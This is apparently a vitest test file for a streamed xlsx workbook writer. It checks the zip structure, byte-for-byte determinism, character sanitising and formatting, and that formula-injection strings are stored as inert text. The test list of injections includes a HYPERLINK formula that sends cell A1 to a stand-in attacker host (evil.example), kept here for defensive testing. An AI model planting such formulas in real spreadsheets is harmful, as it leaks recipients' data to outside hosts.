// The streamed workbook writer (src/spreadsheet/write-xlsx.ts), in process: the zip it writes (entry dates, sizes,
// CRCs, one deflate stream per entry cut in pieces), determinism, hostile text (formula prefixes, XML-illegal
// characters), the formatting read back by exceljs and found in the XML parts, and a generated-cells property: what
// exceljs reads is what the sheet held, as the import will see it.

import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32 as nodeCrc32, inflateRawSync } from 'node:zlib';
import type { Sheet, SheetCell } from '../../src/spreadsheet/export-sheets.js';
import { crc32Portable, xlsxBytes, xlsxChunks } from '../../src/spreadsheet/write-xlsx.js';
import { inspectWorkbookZip } from '../../src/spreadsheet/zip-guard.js';
import { DEFAULT_IMPORT_LIMITS } from '../../src/spreadsheet/limits.js';
import { loadExcelJs } from '../../src/spreadsheet/read-xlsx.js';
import { writeOutputFile } from '../../src/cli/output.js';

const TODAY = '2026-06-01';

async function readWorkbook(bytes: Buffer) {
  const ExcelJS = await loadExcelJs();
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as never);
  return wb;
}

interface Entry { name: string; flags: number; time: number; date: number; crc: number; compressed: number; size: number; data: Buffer }

/** The zip's entries from its central directory, each checked against its local header. */
function zipEntries(zip: Buffer): Entry[] {
  const eocd = zip.length - 22;
  expect(zip.readUInt32LE(eocd)).toBe(0x06054b50);
  const entries: Entry[] = [];
  let at = zip.readUInt32LE(eocd + 16);
  for (let n = 0; n < zip.readUInt16LE(eocd + 10); n++) {
    expect(zip.readUInt32LE(at)).toBe(0x02014b50);
    const nameLength = zip.readUInt16LE(at + 28);
    const local = zip.readUInt32LE(at + 42);
    const entry = {
      name: zip.toString('utf8', at + 46, at + 46 + nameLength), flags: zip.readUInt16LE(at + 8), time: zip.readUInt16LE(at + 12),
      date: zip.readUInt16LE(at + 14), crc: zip.readUInt32LE(at + 16), compressed: zip.readUInt32LE(at + 20), size: zip.readUInt32LE(at + 24),
    };
    expect(zip.readUInt32LE(local)).toBe(0x04034b50);
    // The local header carries the same date, CRC and sizes (no data descriptor).
    expect([zip.readUInt16LE(local + 6), zip.readUInt16LE(local + 12), zip.readUInt32LE(local + 14), zip.readUInt32LE(local + 18), zip.readUInt32LE(local + 22)])
      .toEqual([entry.flags, entry.date, entry.crc, entry.compressed, entry.size]);
    const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    entries.push({ ...entry, data: inflateRawSync(zip.subarray(start, start + entry.compressed)) });
    at += 46 + nameLength + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
  }
  return entries;
}

const part = (zip: Buffer, name: string) => zipEntries(zip).find((e) => e.name === name)!.data.toString('utf8');

/** A sheet of `count` generated rows, each holding a long text so the XML spans several deflate pieces. */
function bigSheet(count: number): Sheet {
  return {
    name: 'Links', columns: ['Id', 'Text', 'Port', 'On', 'Day'],
    rows: { *[Symbol.iterator]() {
      for (let i = 0; i < count; i++) yield [`link-${i}`, `${'x'.repeat(i % 97)} row ${i} & <more> ${i * 7919 % 1000}`, i % 65536, i % 2 === 0, { date: '2026-01-31' }];
    } },
  };
}

const INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '\n=1', "'=already quoted"];

describe('the streamed xlsx writer', () => {
  it('writes a plain zip: every entry deflated, dated the report day at 00:00, sizes and CRC in the local header', () => {
    const zip = xlsxBytes([bigSheet(30_000), { name: 'Empty', columns: ['A'], rows: [] }], TODAY);
    const entries = zipEntries(zip);
    expect(entries.map((e) => e.name)).toEqual(['[Content_Types].xml', '_rels/.rels', 'docProps/app.xml', 'docProps/core.xml', 'xl/workbook.xml',
      'xl/_rels/workbook.xml.rels', 'xl/styles.xml', 'xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml']);
    const dosDate = ((2026 - 1980) << 9) | (6 << 5) | 1;
    for (const e of entries) {
      expect([e.name, e.flags, e.time, e.date]).toEqual([e.name, 0, 0, dosDate]);
      expect(e.data.length, e.name).toBe(e.size);
      expect(nodeCrc32(e.data) >>> 0, e.name).toBe(e.crc);
    }
    // The Links sheet is several megabytes of XML: several deflate pieces, one valid stream.
    expect(entries[7].size).toBeGreaterThan(3 * (1 << 20));
    // What the import's guard reads (its own inflate, sizes checked) is the same.
    const guarded = inspectWorkbookZip('big.xlsx', zip, DEFAULT_IMPORT_LIMITS);
    for (const e of entries) expect(guarded.get(e.name)!.equals(e.data), e.name).toBe(true);
    expect(part(zip, 'docProps/core.xml')).toContain('<dcterms:modified xsi:type="dcterms:W3CDTF">2026-06-01T00:00:00Z</dcterms:modified>');
  });

  it('is byte-identical for the same sheets and day, and differs for another day', () => {
    const sheets = [bigSheet(20_000), bigSheet(10)];
    const a = xlsxBytes(sheets, TODAY);
    expect(xlsxBytes(sheets, TODAY).equals(a)).toBe(true);
    expect(Buffer.concat([...xlsxChunks(sheets, TODAY)]).equals(a)).toBe(true);
    expect(xlsxBytes(sheets, '2026-06-02').equals(a)).toBe(false);
  });

  it('computes the same CRC-32 as zlib without it (Node before 20.15)', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 300 }), fc.uint8Array({ maxLength: 300 }), (a, b) => {
      expect(crc32Portable(b, crc32Portable(a))).toBe(nodeCrc32(Buffer.concat([a, b])) >>> 0);
    }));
  });

  it('writes every formula prefix as inert text, never a formula', async () => {
    const sheet: Sheet = { name: 'Vendors', columns: ['Name', 'Notes'], rows: INJECTIONS.map((s) => [s, `${s} again`]) };
    const zip = xlsxBytes([sheet], TODAY);
    expect(part(zip, 'xl/worksheets/sheet1.xml')).not.toMatch(/<f[ >]/);
    const ws = (await readWorkbook(zip)).getWorksheet('Vendors')!;
    const ExcelJS = await loadExcelJs();
    const names: unknown[] = [];
    ws.eachRow((row, r) => row.eachCell((cell) => {
      expect(cell.type, cell.address).toBe(ExcelJS.ValueType.String);
      if (r > 1) expect(String(cell.value)).toMatch(/^'/);
    }));
    ws.getColumn(1).eachCell((cell, r) => { if (r > 1) names.push(cell.value); });
    // XML turns a carriage return into a line feed, as it did with exceljs's writer; the import expects it.
    expect(names).toEqual(INJECTIONS.map((s) => `'${s.replace(/\r/g, '\n')}`));
  });

  it('replaces the characters XML cannot hold with U+FFFD and keeps everything else, surrogate pairs included', async () => {
    const texts = ['a\u0000b', '\u0001\u0008\u000b\u000c\u000e\u001f', 'x\ufffey\uffff', 'lone \ud800 high', 'lone \udc00 low', 'pair \ud83d\ude00 ok',
      'tab\tand\nline', '  spaced  ', '<b>&amp;</b> "q"', 'é € ’'];
    const zip = xlsxBytes([{ name: 'Systems', columns: ['Text'], rows: texts.map((t) => [t]) }], TODAY);
    const xml = part(zip, 'xl/worksheets/sheet1.xml');
    expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/);
    const ws = (await readWorkbook(zip)).getWorksheet('Systems')!;
    expect(ws.getColumn(1).values.slice(2)).toEqual(['a\ufffdb', '\ufffd'.repeat(6), 'x\ufffdy\ufffd', 'lone \ufffd high', 'lone \ufffd low',
      'pair \ud83d\ude00 ok', 'tab\tand\nline', '  spaced  ', '<b>&amp;</b> "q"', 'é € ’']);
  });

  it('writes bold frozen headers, autofilters over every row, widths from the first rows, severity fills and date cells', async () => {
    const findings: Sheet = {
      name: 'Findings', columns: ['Severity', 'Title', 'Due', 'Count', 'New'], severityColumn: 0,
      rows: ['critical', 'high', 'medium', 'low', 'info', 'unknown'].map((s, i) => [s, `Finding number ${i}`, { date: '2026-12-31' }, i, i % 2 === 0]),
    };
    const wide: Sheet = { name: 'Accepted risks', columns: ['Id', 'Reason'], rows: [['a', 'r'.repeat(200)], ['b', null]] };
    const zip = xlsxBytes([findings, wide], TODAY);
    const wb = await readWorkbook(zip);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Findings', 'Accepted risks']);
    for (const ws of wb.worksheets) {
      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      ws.getRow(1).eachCell((cell) => expect(cell.font?.bold, `${ws.name}!${cell.address}`).toBe(true));
    }
    expect(wb.getWorksheet('Findings')!.autoFilter).toBe('A1:E7');
    expect(wb.getWorksheet('Accepted risks')!.autoFilter).toBe('A1:B3');
    const ws = wb.getWorksheet('Findings')!;
    expect([1, 2, 3, 4, 5].map((c) => ws.getColumn(c).width)).toEqual([10, 18, 12, 8, 8]);
    expect(wb.getWorksheet('Accepted risks')!.getColumn(2).width).toBe(60);
    const fills = [2, 3, 4, 5, 6, 7].map((r) => ws.getCell(r, 1).fill as { fgColor?: { argb?: string } } | undefined);
    expect(fills.map((f) => f?.fgColor?.argb)).toEqual(['FFC00000', 'FFFF6600', 'FFFFC000', 'FF92D050', 'FFBDD7EE', undefined]);
    expect(ws.getCell(2, 1).font).toMatchObject({ bold: true, color: { argb: 'FFFFFFFF' } });
    expect(ws.getCell(3, 1).font).toMatchObject({ bold: true, color: { argb: 'FF000000' } });
    expect(ws.getCell(2, 2).fill).toBeUndefined();
    const due = ws.getCell(2, 3);
    expect(due.value).toEqual(new Date('2026-12-31T00:00:00Z'));
    expect(due.numFmt).toBe('yyyy-mm-dd');
    expect([ws.getCell(4, 4).value, ws.getCell(4, 5).value, ws.getCell(5, 5).value]).toEqual([2, true, false]);
    // The same in the parts themselves.
    const xml = part(zip, 'xl/worksheets/sheet1.xml');
    expect(xml).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>');
    expect(xml).toContain('<autoFilter ref="A1:E7"/>');
    expect(xml).toContain('<col min="3" max="3" width="12" style="2" customWidth="1"/>');
    expect(part(zip, 'xl/styles.xml')).toContain('<numFmt numFmtId="164" formatCode="yyyy-mm-dd"/>');
  });

  it('reads back through exceljs as the cells it was given, on generated sheets', async () => {
    const ExcelJS = await loadExcelJs();
    const text = fc.string({ unit: fc.constantFrom(...'ab =+-@\'"<>&;\t\n\r\u0000\u0007\ufffe\ud800\udc00é😀'), maxLength: 12 });
    const cell: fc.Arbitrary<SheetCell> = fc.oneof(text, fc.integer({ min: -1e9, max: 1e9 }), fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e6, max: 1e6 }),
      fc.boolean(), fc.constant(null), fc.date({ min: new Date('1950-01-01T00:00:00Z'), max: new Date('2090-12-31T00:00:00Z'), noInvalidDate: true })
        .map((d) => ({ date: d.toISOString().slice(0, 10) })));
    // What the cell holds once read: inert text, XML-illegal characters replaced, carriage returns as line feeds.
    const expected = (c: SheetCell): unknown => {
      if (c === null) return null;
      if (typeof c === 'object') return new Date(`${c.date}T00:00:00Z`);
      if (typeof c !== 'string') return Object.is(c, -0) ? 0 : c;
      const inert = c.length > 0 && /^[=+\-@\t\r\n']/.test(c) ? `'${c}` : c;
      const read = inert.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd')
        .replace(/\r\n?/g, '\n');
      return read === '' ? null : read;
    };
    await fc.assert(fc.asyncProperty(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { maxLength: 30 }), async (rows) => {
      const wb = await readWorkbook(xlsxBytes([{ name: 'Sheet', columns: ['A', 'B', 'C'], rows }], TODAY));
      const ws = wb.getWorksheet('Sheet')!;
      const got = rows.map((_, r) => [1, 2, 3].map((c) => {
        const value = ws.getCell(r + 2, c).value;
        return value === undefined ? null : value;
      }));
      expect(got).toEqual(rows.map((row) => row.map(expected)));
      ws.eachRow((row) => row.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)));
    }), { numRuns: 60 });
  });

  it('makes each sheet\'s rows once, while writing, and leaves nothing behind when making them fails', () => {
    let made = 0;
    const failing: Sheet = {
      name: 'Links', columns: ['Id'],
      rows: { *[Symbol.iterator]() {
        for (let i = 0; i < 5000; i++) {
          made++;
          yield [`link-${i}`];
        }
        throw new Error('the register went away');
      } },
    };
    const dir = mkdtempSync(join(tmpdir(), 'sidedoor-xlsx-'));
    const target = join(dir, 'out.xlsx');
    writeFileSync(target, 'previous');
    expect(() => writeOutputFile(target, xlsxChunks([failing], TODAY))).toThrow(`cannot write ${target}: the register went away`);
    expect(made).toBe(5000);
    expect(readdirSync(dir)).toEqual(['out.xlsx']);
    expect(readFileSync(target, 'utf8')).toBe('previous');
  });
});
